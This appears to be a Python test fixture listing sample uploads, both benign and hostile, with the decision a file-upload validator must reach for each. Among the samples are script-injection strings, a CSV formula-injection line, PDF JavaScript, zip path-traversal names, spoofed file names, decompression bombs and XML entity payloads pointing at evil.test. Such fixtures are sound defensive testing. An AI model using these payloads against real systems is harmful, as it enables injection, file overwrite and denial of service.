"""Files with the decision each must get: every row of the table of files, good ones and hostile ones."""

# ruff: noqa: E501 - a table

from __future__ import annotations

import gzip
import os
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from tests.attachments import packages as pack
from tests.attachments import pictures as pics

ACCEPT = "accept"
SCRIPT = b"<script>alert(document.cookie)</script>"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00\x03" + bytes(200)
NOISE = os.urandom(3000)


@dataclass(frozen=True)
class Sample:
    """A file and what becomes of it: accept, or the code of the refusal."""

    name: str
    make: Callable[[], bytes]
    decision: str

    def __str__(self) -> str:
        return ascii(f"{self.decision}-{self.name}"[:60])


def fixed(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _samples(decision: str, files: dict[str, bytes | Callable[[], bytes]]) -> list[Sample]:
    return [Sample(name, fixed(one) if isinstance(one, bytes) else one, decision) for name, one in files.items()]


_EXTERNAL = '<draw:image xlink:href="http://tracker.test/x.png"/>'
_LINK = '<text:p><text:a xlink:href="https://example.com/">x</text:a></text:p>'
_VBA = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
_ACTIVEX = '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
_TAIL = b"PK\x03\x04" + SCRIPT + b"\nalert(1)//"

SAMPLES: list[Sample] = [
    *_samples(ACCEPT, {
        "photo.jpg": pics.jpeg, "photo.JPEG": pics.jpeg, "turned.jpg": partial(pics.jpeg, 6),
        "progressive.jpg": partial(pics.jpeg, progressive=True), "grey.jpg": lambda: pics.encoded("JPEG", pics.painted(mode="L")),
        "cmyk.jpg": lambda: pics.encoded("JPEG", pics.painted(mode="CMYK")),
        "shot.png": pics.png, "turned.png": partial(pics.png, 8), "alpha.png": lambda: pics.encoded("PNG", pics.painted(mode="RGBA")),
        "palette.png": lambda: pics.encoded("PNG", pics.painted(mode="P")), "bits.png": lambda: pics.encoded("PNG", pics.painted(mode="1")),
        "moving.png": partial(pics.animated, "PNG", 20), "moving.gif": pics.gif, "still.gif": lambda: pics.encoded("GIF"),
        "hundred.gif": partial(pics.animated, "GIF", 100), "lossy.webp": pics.webp, "turned.webp": partial(pics.webp, 3),
        "exact.webp": partial(pics.webp, lossless=True), "moving.webp": partial(pics.animated, "WEBP", 20),
        "40 megapixels.png": lambda: pics.encoded("PNG", pics.Image.new("1", (8000, 5000))),
        "tail.jpg": lambda: pics.jpeg() + _TAIL, "tail.png": lambda: pics.png() + _TAIL,
        "tail.gif": lambda: pics.gif() + _TAIL, "tail.webp": lambda: pics.webp() + _TAIL,
        "motion photo.jpg": lambda: pics.jpeg() + b"\0\0\0\x18ftypmp42" + NOISE,
        "report.pdf": PDF, "with script.pdf": PDF.replace(b"/Type/Catalog", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        "letter.docx": partial(pack.ooxml, "docx"), "sheet.xlsx": partial(pack.ooxml, "xlsx"), "talk.pptx": partial(pack.ooxml, "pptx"),
        "link.docx": partial(pack.ooxml, "docx", relations=pack.relation("hyperlink", "https://example.com/")),
        "text.odt": partial(pack.odf, body=_LINK), "sheet.ods": partial(pack.odf, "spreadsheet"), "talk.odp": partial(pack.odf, "presentation"),
        "old.doc": partial(pack.compound, "WordDocument"), "old.xls": partial(pack.compound, "Workbook"),
        "older.xls": partial(pack.compound, "Book"), "old.ppt": partial(pack.compound, "PowerPoint Document"),
        "files.zip": lambda: pack.zipped({"a.txt": b"text", "folder/b.csv": b"1;2", "c.png": pics.png()}),
        "stored.zip": lambda: pack.zipped({"a.txt": b"text"}, zipfile.ZIP_STORED),
        "letters.zip": lambda: pack.zipped({"a.docx": pack.ooxml("docx"), "b.ods": pack.odf("spreadsheet")}),
        "notes.txt": "Grüße, 世界 👍\r\n".encode(), "marked.txt": b"\xef\xbb\xbfmarked", "wide.txt": "wide 世".encode("utf-16"),
        "list.csv": b"name;price\r\n=cmd|' /C calc'!A0;1\r\n", "page.txt": b"<!doctype html>" + SCRIPT, "report.v2.final.pdf": PDF,
        "invoice shop.com.pdf": PDF, "مرحبا العالم.pdf": PDF, "見積書.pdf": PDF, "Ελληνικά.txt": b"text", "👍.png": pics.png,
    }),
    *_samples("empty_file", {"empty.txt": b"", "empty.jpg": b"", "empty.zip": b""}),
    *_samples("type_not_allowed", {
        "icon.svg": SVG, "page.html": SCRIPT, "data.xml": b"<x/>", "code.js": b"alert(1)", "setup.exe": EXE, "invoice.pdf.exe": EXE,
        "shell.php.jpg": pics.jpeg, "page.html.pdf": PDF, "setup.exe.zip": lambda: pack.zipped({"a.txt": b"x"}), "noextension": b"text",
        ".txt": b"text", "run.sh": b"#!/bin/sh", "photo.heic": b"\0\0\0\x18ftypheic", "mail.eml": b"From: x", "gpj.\u202eexe": EXE,
        "data.json": b"{}", "archive.tar.gz": lambda: gzip.compress(b"x"), "app.jpg\u200b.exe": EXE,
    }),
    *_samples("macros", {
        "letter.docm": partial(pack.ooxml, "docm"), "sheet.xlsm": partial(pack.ooxml, "xlsx"), "renamed.docx": partial(pack.ooxml, "docm"),
        "hidden.docx": partial(pack.ooxml, "docx", {"word/vbaProject.bin": b"x"}, types=_VBA),
        "basic.odt": partial(pack.odf, extra={"Basic/Standard/Module1.xml": b"<x/>"}),
    }),
    *_samples("active_content", {"control.docx": partial(pack.ooxml, "docx", {"word/activeX/activeX1.xml": "<x/>"}, types=_ACTIVEX)}),
    *_samples("external_content", {
        "template.docx": partial(pack.ooxml, "docx", relations=pack.relation("attachedTemplate", "http://evil.test/t.dotm")),
        "image.xlsx": partial(pack.ooxml, "xlsx", relations=pack.relation("image", "file://server/share/x.png")),
        "tracker.odt": partial(pack.odf, body=_EXTERNAL),
    }),
    *_samples("encrypted", {
        "locked.zip": pack.zip_encrypted, "locked.docx": partial(pack.compound, "EncryptedPackage"),
        "locked.odt": partial(pack.odf, manifest="<m:file-entry><m:encryption-data/></m:file-entry>"),
    }),
    *_samples("content_mismatch", {
        "svg.png": SVG, "html.jpg": SCRIPT, "exe.pdf": EXE, "exe.zip": EXE, "png.jpg": pics.png, "jpeg.png": pics.jpeg, "pdf.docx": PDF,
        "zip.docx": lambda: pack.zipped({"a.txt": b"x"}), "docx.xlsx": partial(pack.ooxml, "docx"), "docx.odt": partial(pack.ooxml, "docx"),
        "odt.ods": partial(pack.odf, "text"), "late mimetype.odt": partial(pack.odf, first=False), "text.doc": b"text",
        "installer.doc": partial(pack.compound, "Property", "Binary"), "late.pdf": b"\n" + PDF, "photo.jpg.": b"x", "gif.webp": pics.gif, "script.gif": b"GIF=1;" + SCRIPT,
    }),
    *_samples("too_many_pixels", {
        "bomb.png": pics.png_bomb, "41 megapixels.png": lambda: pics.encoded("PNG", pics.Image.new("1", (8200, 5000))),
        "lying.jpg": lambda: pics.jpeg_saying(60_000, 60_000), "long.png": lambda: pics.png_of(70_000, 1, b""),
    }),
    *_samples("too_many_frames", {
        "many.gif": partial(pics.animated, "GIF", 101), "thousand.gif": partial(pics.animated, "GIF", 1000),
        "many.png": partial(pics.animated, "PNG", 101), "many.webp": partial(pics.animated, "WEBP", 101),
    }),
    *_samples("damaged", {
        "cut.jpg": lambda: pics.jpeg()[:-40], "cut.png": lambda: pics.png()[:-40], "cut.gif": lambda: pics.gif()[:-40],
        "cut.webp": lambda: pics.webp()[:-40], "head.jpg": b"\xff\xd8\xff\xe0", "head.png": b"\x89PNG\r\n\x1a\n",
        "crc.png": lambda: pics.png().replace(b"IDAT", b"IDAT", 1)[:-5] + b"\0" + pics.png()[-4:],
        "more.png": partial(pics.png_inflating, 30_000_000), "less.png": lambda: pics.png_of(64, 64, zlib.compress(bytes(100))),
        "larger.jpg": lambda: pics.jpeg_saying(3000, 3000), "canvas.webp": partial(pics.webp_saying, 4000, 4000),
        "scans.jpg": lambda: pics.jpeg_of_scans(2500), "blocks.gif": partial(pics.gif_of_blocks, 2_000_000),
        "cut.zip": lambda: pack.zipped({"a.txt": NOISE})[:-30], "cut.docx": lambda: pack.ooxml("docx")[:-30],
        "crc.zip": lambda: pack.zipped({"a.txt": b"text"}, zipfile.ZIP_STORED).replace(b"text", b"tExt"),
    }),
    *_samples("archive_too_large", {
        "zeros.zip": lambda: pack.zipped({"a.csv": bytes(50_000_000)}), "entries.zip": lambda: pack.zipped({f"{n}.txt": b"x" for n in range(1001)}),
        "mixed.zip": lambda: pack.zipped({"a.csv": bytes(50_000_000), "b.bin": os.urandom(1_500_000)}),
        "lying.zip": pack.zip_lying, "overlapping bomb.zip": partial(pack.zip_overlapping, 200, bytes(900_000)), "zeros.docx": lambda: pack.ooxml("docx", {"word/media/x.bin": bytes(50_000_000)}),
        "zeros inside.zip": lambda: pack.zipped({"a.docx": pack.ooxml("docx", {"word/x.bin": bytes(20_000_000)})}),
    }),
    *_samples("nested_archive", {
        "zip.zip": lambda: pack.zipped({"inner.zip": pack.zipped({"a.txt": b"x"})}), "hidden.zip": lambda: pack.zipped({"a.txt": pack.zipped({"a": b"x"})}),
        "gz.zip": lambda: pack.zipped({"a.gz": gzip.compress(b"x")}), "7z.zip": lambda: pack.zipped({"a": b"7z\xbc\xaf\x27\x1c" + NOISE}),
        "rar.zip": lambda: pack.zipped({"a.rar": b"Rar!\x1a\x07\x01\x00" + NOISE}), "tar.zip": lambda: pack.zipped({"a": bytes(257) + b"ustar\0" + NOISE}),
    }),
    *_samples("unsafe_archive", {
        "overlap.zip": partial(pack.zip_overlapping, 2, NOISE), "renaming.zip": pack.zip_renaming, "absolute.zip": partial(pack.zip_with, "/etc/passwd"),
        "up.zip": partial(pack.zip_with, "../../evil.txt"), "deep up.zip": partial(pack.zip_with, "a/../../b"), "drive.zip": partial(pack.zip_with, "C:evil.txt"),
        "backslash.zip": partial(pack.zip_with, "..\\evil.txt"), "link.zip": pack.zip_link, "control.zip": partial(pack.zip_with, "a\x1bb"),
        "behind.zip": lambda: pack.zipped({"a.txt": b"x"}) + SCRIPT, "doctype.docx": partial(pack.ooxml, "docx", document='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        "doctype types.docx": lambda: pack.ooxml("docx", {"customXml/item1.xml": '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.test/x"><r/>'}),
    }),
    *_samples("not_text", {
        "nul.txt": b"a\0b", "binary.csv": NOISE + b"\0\xff", "latin.txt": "Grüße".encode("cp1252"), "exe.txt": EXE, "cut.txt": "世".encode()[:2],
        "nul wide.txt": "a\0b".encode("utf-16"),
    }),
]  # fmt: skip
